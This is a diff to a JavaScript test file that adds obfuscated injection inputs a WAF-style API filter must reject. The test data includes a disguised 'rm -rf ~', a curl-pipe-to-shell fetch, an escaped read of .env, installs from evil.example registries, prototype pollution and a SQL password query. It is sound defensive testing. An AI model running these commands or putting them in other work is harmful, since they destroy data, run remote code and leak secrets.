@@ -1720,6 +1720,13 @@ describe('waf API profile: session 10', () => {
       { branch: '`i$!d`' },
       { note: 'Ok ; pip install git+ssh://git@evil.example/x' },
       { 'path.1': 7, 'path.1.x': 1, path: ['constructor', 'prototype', 'isAdmin'], v: true },
+      // Audit 22: substitutions that print nothing, `$"…"`, ANSI-C escapes inside a word, line continuations,
+      // installer registries given with `=` or after the package.
+      { host: '127.0.0.1;r`:`m -rf ~' },
+      { host: '127.0.0.1;cu$"rl" 203.0.113.9/x.sh|sh' },
+      { host: "127.0.0.1;cat .en$'\\x76'" },
+      { host: '127.0.0.1;$\\\n0 -c id' },
+      { note: 'Ok ; npm install --registry=https://evil.example pkg' },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
